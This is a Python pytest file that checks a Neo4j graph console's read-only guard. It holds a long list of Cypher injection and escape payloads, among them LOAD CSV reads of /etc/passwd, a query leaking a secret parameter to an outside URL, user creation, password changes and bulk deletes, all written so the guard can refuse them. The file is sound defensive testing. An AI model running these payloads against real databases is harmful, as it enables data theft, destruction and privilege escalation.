"""The Cypher console refuses every write and escape attempt and leaves the graph unchanged.

Each attempt runs through ``graph.db.run_read_only`` (the console's and ``cluegraph
query``'s path) on a seeded graph; the node and relationship counts and a content
checksum (``graph.bundle.digest``) must be identical before and after.
"""

from __future__ import annotations

import pytest

from graph import audit, bundle, db
from graph.errors import InvalidInput, NotReadOnly

pytestmark = pytest.mark.neo4j

SEED = """
CREATE (co:Country {code: 'FR', name: 'France'})
CREATE (a:Agency {id: 'AG1', name: 'Unit'})-[:IN_COUNTRY]->(co)
CREATE (c:Case {id: 'C1', title: 'Harbour; "quoted"', status: 'open'})-[:OWNED_BY]->(a)
CREATE (c)-[:INVESTIGATES]->(s:Series {id: 'S1', name: 'Blue room', status: 'unidentified'})
CREATE (s)-[:CONTAINS]->(:Media {sha256: 'ab', kind: 'image', fileName: 'x.jpg'})
"""

#: (query, parameters). Every one must be refused.
ATTEMPTS: list[tuple[str, dict]] = [
    # plain writes, mixed case
    ("CREATE (n:Case {id: 'X'}) RETURN n", {}),
    ("cReAtE (n:Case {id: 'X'})", {}),
    ("merge (n:Case {id: 'C1'}) ON MATCH SET n.title = 'pwned' RETURN n", {}),
    ("MATCH (n:Case) SET n.status = 'closed' RETURN n", {}),
    ("MATCH (n:Case) SET n += {title: 'x'}", {}),
    ("MATCH (n:Case) SET n:Deleted", {}),
    ("MATCH (n:Case) REMOVE n.title RETURN n", {}),
    ("MATCH (n:Series) REMOVE n:Series", {}),
    ("MATCH (n) DETACH DELETE n", {}),
    ("match ()-[r]->() delete r", {}),
    ("MATCH (n:Media) NODETACH DELETE n", {}),
    ("INSERT (:Case {id: 'gql'})", {}),
    ("MATCH (n:Case) SET n.title = 'x' FINISH", {}),
    # comment tricks hiding a second statement or a write
    ("MATCH (n) RETURN n /* */ ; /* */ MATCH (m) DETACH DELETE m", {}),
    ("MATCH (n) RETURN count(n) AS c; // harmless\nCREATE (x:Case {id: 'Y'})", {}),
    ("MATCH (n) RETURN n // comment\n;CREATE (x:Case {id: 'Y'})", {}),
    ("/* read only */ CREATE /* honest */ (x:Case {id: 'Y'})", {}),
    ("MATCH (n)\n// ; RETURN 1\nSET n.x = 1", {}),
    ("RETURN 1 AS `a\\`; CREATE (n:Case {id: 'bt'}) //`", {}),
    # subqueries
    ("CALL { CREATE (n:Case {id: 'sub'}) } RETURN 1 AS one", {}),
    ("MATCH (c:Case) CALL (c) { SET c.title = 'x' } RETURN count(*) AS n", {}),
    ("CALL () { MATCH (n) DETACH DELETE n } IN TRANSACTIONS", {}),
    (
        "UNWIND range(1, 3) AS i CALL (i) { CREATE (:Case {id: toString(i)}) } "
        "IN TRANSACTIONS OF 1 ROW",
        {},
    ),
    ("CALL { RETURN 1 AS a UNION CREATE (m:Case {id: 'u'}) RETURN 2 AS a } RETURN a", {}),
    ("MATCH (n) WHERE EXISTS { CREATE (m) } RETURN n", {}),
    ("FOREACH (x IN [1, 2] | CREATE (:Case {id: toString(x)}))", {}),
    ("MATCH (c:Case) FOREACH (x IN [c] | DETACH DELETE x)", {}),
    # LOAD CSV, various URLs
    ("LOAD CSV FROM 'file:///etc/passwd' AS l RETURN l", {}),
    ("load csv with headers from 'http://127.0.0.1:9/x.csv' AS l RETURN l", {}),
    ("LOAD CSV FROM 'https://example.invalid/leak?' + $x AS l RETURN l", {"x": "secret"}),
    ("LOAD/**/CSV FROM 'ftp://127.0.0.1/x' AS l RETURN l", {}),
    ("MATCH (c:Case) CALL (c) { LOAD CSV FROM 'file:///x' AS l RETURN l } RETURN c", {}),
    # procedures: admin, write, absent plugins
    ("CALL dbms.listConfig()", {}),
    ("CALL dbms.listConnections()", {}),
    ("CALL dbms.security.createUser('eve', 'longpassword1', false)", {}),
    ("CALL db.createLabel('Evil')", {}),
    ("CALL db.createProperty('evil')", {}),
    ("CALL db.createRelationshipType('EVIL')", {}),
    ("CALL db.labels() YIELD label CALL db.createLabel(label + 'X') RETURN 1", {}),
    ("CALL db.clearQueryCaches()", {}),
    ("CALL db.stats.collect('QUERIES')", {}),
    ("CALL db.create.setNodeVectorProperty(null, 'x', [1.0])", {}),
    ("CALL db.index.vector.createNodeIndex('v', 'Media', 'e', 3, 'cosine')", {}),
    ("CALL tx.setMetaData({user: 'someone-else'})", {}),
    ("CALL apoc.cypher.runWrite('CREATE (n)', {})", {}),
    ("CALL apoc.periodic.iterate('MATCH (n) RETURN n', 'DETACH DELETE n', {})", {}),
    ("RETURN apoc.cypher.runFirstColumnSingle('MATCH (n) DETACH DELETE n', {})", {}),
    ("CALL apoc.load.json('file:///etc/passwd')", {}),
    # other databases, users, privileges, transactions
    ("USE system SHOW USERS", {}),
    ("USE system MATCH (n) RETURN n", {}),
    ("use neo4j MATCH (n) DETACH DELETE n", {}),
    ("CALL () { USE system MATCH (n) RETURN n } RETURN 1", {}),
    ("USE neo4j MATCH (n) RETURN count(n) AS n", {}),
    ("USE `neo4j` MATCH (n) RETURN count(n) AS n", {}),
    ("CREATE USER eve SET PASSWORD 'longpassword1'", {}),
    ("ALTER USER neo4j SET PASSWORD 'longpassword1'", {}),
    ("ALTER CURRENT USER SET PASSWORD FROM 'a' TO 'longpassword1'", {}),
    ("GRANT ROLE admin TO eve", {}),
    ("SHOW USERS", {}),
    ("SHOW CURRENT USER", {}),
    ("SHOW DATABASES", {}),
    ("SHOW TRANSACTIONS", {}),
    ("SHOW SETTINGS", {}),
    ("TERMINATE TRANSACTIONS 'neo4j-transaction-1'", {}),
    ("STOP DATABASE neo4j", {}),
    # schema
    ("CREATE INDEX evil FOR (n:Case) ON (n.title)", {}),
    ("CREATE CONSTRAINT evil FOR (n:Case) REQUIRE n.title IS UNIQUE", {}),
    ("DROP CONSTRAINT Case_id IF EXISTS", {}),
    ("DROP INDEX evil IF EXISTS", {}),
    ("CREATE FULLTEXT INDEX ft FOR (n:Case) ON EACH [n.title]", {}),
    # parameter tricks
    ("MATCH (n:Case) SET n += $props", {"props": {"title": "x"}}),
    ("MATCH (n:Case) SET n:$($label)", {"label": "Evil"}),
    ("CREATE (n:$($label))", {"label": "Case"}),
    ("CALL db.createLabel($l)", {"l": "Evil"}),
    ("CALL apoc.cypher.run($q, {})", {"q": "MATCH (n) DETACH DELETE n"}),
    # query prefixes
    ("EXPLAIN CREATE (n:Case {id: 'e'})", {}),
    ("PROFILE MATCH (n) DETACH DELETE n", {}),
    ("CYPHER 5 CREATE (n:Case {id: 'v'})", {}),
    ("CYPHER runtime=slotted MATCH (n) DETACH DELETE n", {}),
    # unicode look-alikes and escapes
    ("ＣＲＥＡＴＥ (n:Case {id: 'fw'})", {}),
    ("СREATE (n:Case {id: 'cyrillic'})", {}),
    ("CRE\u200bATE (n:Case {id: 'zw'})", {}),
    ("\u202eCREATE (n:Case {id: 'rtl'})", {}),
    ("RETURN 1 \\u003B CREATE (n:Case {id: 'esc'})", {}),
    ("RETURN '\\u0027; CREATE (n:Case {id: \"esc2\"}) //'", {}),
    ("MATCH (n) RETURN n\x00; CREATE (m)", {}),
    # several statements; ';' in a string literal next to a real ';'
    ("MATCH (n) RETURN n; MATCH (n) DETACH DELETE n", {}),
    ("RETURN 'a;b' AS s; CREATE (n:Case {id: 'semi'})", {}),
    ("RETURN \"x;\" AS s ;CREATE (n:Case {id: 'semi2'})", {}),
    ("RETURN 1;\nRETURN 2", {}),
    # not even a statement
    ("", {}),
    ("   ;  ", {}),
]


def state(driver) -> tuple:
    return db.counts(driver), bundle.digest(driver)


@pytest.fixture
def seeded(driver, tmp_path):
    db.write(driver, SEED, name="test.seed")
    audit.record(driver, "ana", "seed", {}, None, path=tmp_path / "audit.jsonl")
    return driver


def test_the_corpus_is_large_enough():
    assert len(ATTEMPTS) >= 30


@pytest.mark.parametrize(
    ("query", "params"), ATTEMPTS, ids=[f"{i:02d}" for i in range(len(ATTEMPTS))]
)
def test_write_or_escape_attempt_is_refused(seeded, query, params):
    with pytest.raises((NotReadOnly, InvalidInput)):
        db.run_read_only(seeded, query, params, timeout=10)


@pytest.mark.parametrize(
    ("query", "params"), ATTEMPTS, ids=[f"{i:02d}" for i in range(len(ATTEMPTS))]
)
def test_write_or_escape_attempt_leaves_the_graph_unchanged(seeded, query, params):
    before = state(seeded)
    try:
        db.run_read_only(seeded, query, params, timeout=10)
    except (NotReadOnly, InvalidInput):
        pass
    assert state(seeded) == before


def test_schema_is_unchanged_after_the_whole_corpus(seeded):
    before = db.constraints(seeded)
    for query, params in ATTEMPTS:
        try:
            db.run_read_only(seeded, query, params, timeout=10)
        except (NotReadOnly, InvalidInput):
            pass
    assert db.constraints(seeded) == before


def test_no_label_or_property_key_is_created_by_the_corpus(seeded):
    def tokens():
        return db.records(
            seeded,
            "CALL db.labels() YIELD label WITH collect(label) AS l "
            "CALL db.propertyKeys() YIELD propertyKey RETURN l, collect(propertyKey) AS p",
            name="t",
        )

    before = tokens()
    for query, params in ATTEMPTS:
        try:
            db.run_read_only(seeded, query, params, timeout=10)
        except (NotReadOnly, InvalidInput):
            pass
    assert tokens() == before


def test_a_read_transaction_refuses_writes_even_without_the_check(seeded):
    # Second line of defence: the console's transaction is a read transaction.
    with pytest.raises(InvalidInput, match="read access mode"):
        db.read(seeded, "CREATE (n:Case {id: 'direct'}) RETURN n", name="t")


# ------------------------------------------------------------------ legitimate reads
READS: list[tuple[str, dict, list[dict]]] = [
    ("RETURN 'a;b' AS s", {}, [{"s": "a;b"}]),
    ('RETURN "x; CREATE (n)" AS s', {}, [{"s": "x; CREATE (n)"}]),
    ("RETURN 1 AS `a;b`", {}, [{"a;b": 1}]),
    ("MATCH (c:Case) /* ; DELETE c */ RETURN c.id AS id", {}, [{"id": "C1"}]),
    ("MATCH (c:Case) RETURN c.title AS t // ; trailing comment", {}, [{"t": 'Harbour; "quoted"'}]),
    ("MATCH (c:Case) WHERE c.title CONTAINS ';' RETURN count(c) AS n;", {}, [{"n": 1}]),
    ("RETURN 'LOAD CSV FROM x' AS s", {}, [{"s": "LOAD CSV FROM x"}]),
    ("RETURN $q AS q", {"q": "MATCH (n) DETACH DELETE n"}, [{"q": "MATCH (n) DETACH DELETE n"}]),
    ("MATCH (n:Case {id: $id}) RETURN n.id AS id", {"id": "C1'}) DETACH DELETE n //"}, []),
    ("MATCH (u:Series) RETURN u.name AS user", {}, [{"user": "Blue room"}]),
    ("CALL db.labels() YIELD label RETURN count(label) > 0 AS ok", {}, [{"ok": True}]),
    (
        "MATCH (s:Series) RETURN COUNT { (s)-[:CONTAINS]->() } AS media",
        {},
        [{"media": 1}],
    ),
]


@pytest.mark.parametrize(("query", "params", "rows"), READS)
def test_legitimate_read_is_allowed(seeded, query, params, rows):
    assert db.run_read_only(seeded, query, params).rows == rows


def test_legitimate_reads_leave_the_graph_unchanged(seeded):
    before = state(seeded)
    for query, params, _ in READS:
        db.run_read_only(seeded, query, params)
    assert state(seeded) == before


def test_use_clause_is_refused_with_a_clear_reason(seeded):
    # Reads through USE could reach other databases of an Enterprise server.
    with pytest.raises(NotReadOnly, match="USE is not allowed"):
        db.run_read_only(seeded, "USE neo4j MATCH (n) RETURN count(n) AS n")


def test_backticked_names_take_no_backslash_escapes():
    # Cypher ends `a\` at the second backtick: the ';' after it is a statement separator.
    assert ";" in db._strip_literals("RETURN 1 AS `a\\`; CREATE (n) //`")
